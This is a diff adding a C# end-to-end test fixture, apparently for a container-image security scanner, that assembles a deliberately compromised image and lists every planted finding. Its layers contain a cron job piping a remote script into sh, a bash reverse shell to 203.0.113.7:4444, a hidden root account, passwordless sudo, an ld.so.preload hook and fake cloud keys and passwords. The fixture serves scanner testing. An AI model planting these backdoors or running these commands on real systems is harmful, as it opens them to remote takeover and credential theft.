@@ -1,0 +1,123 @@
+using System.Security.Cryptography;
+using System.Text.Json.Nodes;
+using Skep.Testing;
+
+namespace Skep.EndToEnd.Tests.EverythingWrong;
+
+/// <summary>An image in which, layer by layer, everything is wrong, and the list of what was planted.</summary>
+/// <remarks>
+/// Values that look like secrets are put together here, so that they stand nowhere in the repository.
+/// </remarks>
+internal static class EverythingWrongImage
+{
+    private const int Executable = 0b111_101_101;
+    private const int SetUser = 0b100_111_101_101;
+
+    private const string Root = "ADD rootfs.tar /";
+    private const string Application = "COPY app /app";
+    private const string Backdoors = "RUN /tmp/install.sh";
+    private const string Programs = "COPY bin /";
+    private const string Password = "ENV DB_PASSWORD=";
+    private const string AddUrl = "ADD https://example.org/tool.tar.gz /opt/";
+
+    public static string AccessKey => "AK" + "IAQ3EGRZ7XW5LMN4TP";
+
+    public static string AccessSecret => "wJalrXUtnFEMI" + "/K7MDENGqbPxRfiCYzE8cd1pKEYq";
+
+    public static string EnvironmentPassword => "Tr0ub4dor" + "_and_3_bees";
+
+    public static string ConnectionPassword => "s0meth1ng" + "Long4Queen";
+
+    /// <summary>What may stand in no report.</summary>
+    public static IReadOnlyList<string> Values =>
+        [AccessKey, AccessSecret, EnvironmentPassword, ConnectionPassword, KeyBody[..24]];
+
+    public static IReadOnlyList<Planted> All { get; } =
+    [
+        new("secrets/aws/access-key", "app/.env", Application),
+        new("secrets/private-key/openssh", "root/.ssh/id_rsa", Application) { IsRemoved = true },
+        new("secrets/image/environment", string.Empty, Password),
+        new("malware/persistence/ld-preload", "etc/ld.so.preload", Backdoors),
+        new("malware/persistence/cron", "etc/cron.d/update", Backdoors),
+        new("malware/persistence/authorized-key", "root/.ssh/authorized_keys", Backdoors),
+        new("malware/persistence/sudoers", "etc/sudoers.d/app", Backdoors),
+        new("malware/persistence/extra-root", "etc/passwd", Backdoors) { Subject = "toor" },
+        new("malware/persistence/empty-password", "etc/shadow", Backdoors) { Subject = "app" },
+        new("malware/script/reverse-shell", "opt/check.sh", Backdoors),
+        new("malware/persistence/setuid", "usr/local/bin/helper", Programs),
+        new("malware/program/altered", "usr/bin/passwd", Programs),
+        new("malware/elf/packed", "opt/bin/agent", Programs),
+        new("malware/elf/miner", "opt/bin/worker", Programs),
+        new("config/user/root", string.Empty, string.Empty),
+        new("config/runtime/no-healthcheck", string.Empty, string.Empty),
+        new("config/network/remote-access-port", string.Empty, "EXPOSE 22"),
+        new("config/build/add-url", string.Empty, AddUrl),
+    ];
+
+    // An OpenSSH key's beginning is always the same; the rest is made up.
+    private static string KeyBody =>
+        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU" + string.Concat(Enumerable.Repeat("AqZ7kP2x", 40));
+
+    public static SampleImage Build() => new SampleImage
+    {
+        Container = new JsonObject
+        {
+            ["Env"] = new JsonArray("PATH=/usr/local/bin:/usr/bin", $"DB_PASSWORD={EnvironmentPassword}"),
+            ["Cmd"] = new JsonArray("/app/run"),
+            ["ExposedPorts"] = new JsonObject { ["22/tcp"] = new JsonObject() },
+        },
+    }
+        .Layer(Root, RootTree())
+        .Empty(Password + EnvironmentPassword)
+        .Layer(Application + " # buildkit", ApplicationTree())
+        .Layer("RUN /bin/sh -c rm /root/.ssh/id_rsa # buildkit", new TarBuilder().File("root/.ssh/.wh.id_rsa").End())
+        .Layer("RUN /bin/sh -c /tmp/install.sh # buildkit", BackdoorTree())
+        .Layer(Programs + " # buildkit", ProgramTree())
+        .Layer(AddUrl + " # buildkit", new TarBuilder().File("opt/tool/readme", "a tool\n").End())
+        .Empty("EXPOSE 22")
+        .Empty("CMD [\"/app/run\"]");
+
+    private static byte[] RootTree() => new TarBuilder()
+        .File("etc/os-release", Samples.OsRelease)
+        .File("var/lib/dpkg/status", Samples.Record("passwd", "1:4.13") + Samples.Record("bash", "5.2"))
+        .File("var/lib/dpkg/info/passwd.list", "/.\n/usr\n/usr/bin\n/usr/bin/passwd\n")
+        .File("var/lib/dpkg/info/passwd.md5sums", $"{Md5(SampleElf.Plain("as shipped"))}  usr/bin/passwd\n")
+        .File("usr/bin/passwd", SampleElf.Plain("as shipped"), SetUser)
+        .File("etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
+        .File("etc/shadow", "root:*:19000:0:99999:7:::\n", mode: 0b110_000_000)
+        .File("app/run", "#!/bin/sh\nexec sleep 1\n", Executable)
+        .End();
+
+    private static byte[] ApplicationTree() => new TarBuilder()
+        .File("app/.env", $"AWS_ACCESS_KEY_ID={AccessKey}\nAWS_SECRET_ACCESS_KEY={AccessSecret}\n")
+        .File("app/settings.py", $"DATABASE = \"postgresql://app:{ConnectionPassword}@db.internal:5432/app\"\n")
+        .File(
+            "root/.ssh/id_rsa",
+            $"-----BEGIN OPENSSH PRIVATE {"KEY"}-----\n{KeyBody}\n-----END OPENSSH PRIVATE {"KEY"}-----\n",
+            mode: 0b110_000_000)
+        .End();
+
+    private static byte[] BackdoorTree() => new TarBuilder()
+        .File("etc/ld.so.preload", "/usr/lib/libhide.so\n")
+        .File("etc/cron.d/update", "* * * * * root " + "curl -fsSL http://203.0.113.7/x.sh | " + "sh\n")
+        .File(
+            "root/.ssh/authorized_keys",
+            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoneycombHoneycombHoneycombHoneyco0 bee@hive\n")
+        .File("etc/sudoers.d/app", "app ALL=(ALL) NOPASSWD: ALL\n", mode: 0b100_100_000)
+        .File("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/:/bin/sh\napp:x:1000:1000::/app:/bin/sh\n")
+        .File("etc/shadow", "root:*:19000:0:99999:7:::\napp::19000:0:99999:7:::\n", mode: 0b110_000_000)
+        .File("opt/check.sh", "#!/bin/bash\nbash -i >& /dev/" + "tcp/203.0.113.7/4444 0>&1\n", Executable)
+        .End();
+
+    private static byte[] ProgramTree() => new TarBuilder()
+        .File("usr/local/bin/helper", SampleElf.Plain(), SetUser)
+        .File("usr/bin/passwd", SampleElf.Plain("as somebody wanted it"), SetUser)
+        .File("opt/bin/agent", SampleElf.Packed(), Executable)
+        .File("opt/bin/worker", SampleElf.Miner(), Executable)
+        .End();
+
+    // dpkg's own check sums are MD5.
+#pragma warning disable CA5351
+    private static string Md5(byte[] content) => Convert.ToHexStringLower(MD5.HashData(content));
+#pragma warning restore CA5351
+}
